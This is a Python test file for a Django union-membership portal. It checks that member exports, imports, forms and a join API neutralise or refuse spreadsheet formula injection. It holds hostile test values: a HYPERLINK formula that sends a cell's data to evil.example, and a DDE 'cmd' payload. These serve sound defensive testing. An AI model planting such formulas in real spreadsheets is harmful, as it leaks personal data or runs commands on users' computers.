"""M1 formula injection on the roll: the member export writes a formula name as inert text, the member import
reads our own export's text back unchanged, and names/free text beginning with "=" are refused at entry
(forms, API, import)."""

import io
import zipfile

from openpyxl import load_workbook

from members.forms import JoinForm, MemberCreateForm
from members.imports import COLUMNS, import_file, read_file
from members.models import Member
from union_portal.excel import read_table, workbook_bytes
from union_portal.models import OrgUnit

from .conftest import new_id_number

EVIL = '=HYPERLINK("http://evil.example/?"&D2,"x")'


def _sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


def test_member_roll_export_writes_a_formula_name_as_inert_text(make_member, login, handler):
    # A name stored before the entry check existed (or by a path that skipped the forms).
    make_member(name=EVIL)

    data = login(handler).get("/members/export.xlsx").content

    assert "<f>" not in _sheet_xml(data)
    cells = [c for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_member_import_reads_formula_like_text_of_our_own_export_back_unchanged(tree, handler):
    rows = [
        ["+张三", new_id_number(), "13800000001", "2024-03-01", "-挡车工", "是", "否", "否", "@工行", "", ""],
        [EVIL, new_id_number(), "13800000002", "2024-03-01", "", "否", "否", "否", "", "", ""],
    ]
    data = workbook_bytes(COLUMNS, rows)

    text = read_table(data, required=COLUMNS[:3], optional=COLUMNS[3:])
    assert [r["姓名"] for _n, r in text.rows] == ["+张三", EVIL]  # read back as written, not as a formula
    assert [r["姓名"] for _n, r in read_file(data).rows] == ["+张三", None]  # as a name, EVIL is refused

    count, errors = import_file(data, org=tree["KQ-HS-001"], by=handler, dry_run=True)
    assert [(e.row, e.column) for e in errors] == [(3, "姓名")]  # "=..." is refused at entry, the rest is fine
    only_good = workbook_bytes(COLUMNS, rows[:1])
    assert import_file(only_good, org=tree["KQ-HS-001"], by=handler) == (1, [])
    member = Member.objects.get(name="+张三")
    assert (member.job, member.bank_name) == ("-挡车工", "@工行")


def test_every_portal_form_refuses_names_and_free_text_beginning_with_equals(tree):
    join = JoinForm({"name": EVIL, "id_number": "x", "mobile": "x", "job": "=cmd|' /C calc'!A0"})
    assert not join.is_valid() and "name" in join.errors and "job" in join.errors
    member = MemberCreateForm(
        {"org": tree["KQ-HS-001"].pk, "name": EVIL, "id_number": "x", "joined_on": "2024-01-01"},
        unions=OrgUnit.objects.filter(pk=tree["KQ-HS-001"].pk),
    )
    assert not member.is_valid() and "“=”" in member.errors["name"][0]


def test_join_api_refuses_a_name_beginning_with_equals(tree, login, worker):
    response = login(worker).post(
        "/api/v1/members/join/",
        {"union_code": "KQ-QX-001", "name": EVIL, "id_number": new_id_number(), "mobile": "13957500001"},
        content_type="application/json",
    )
    assert response.status_code == 400 and "name" in response.json()["errors"]
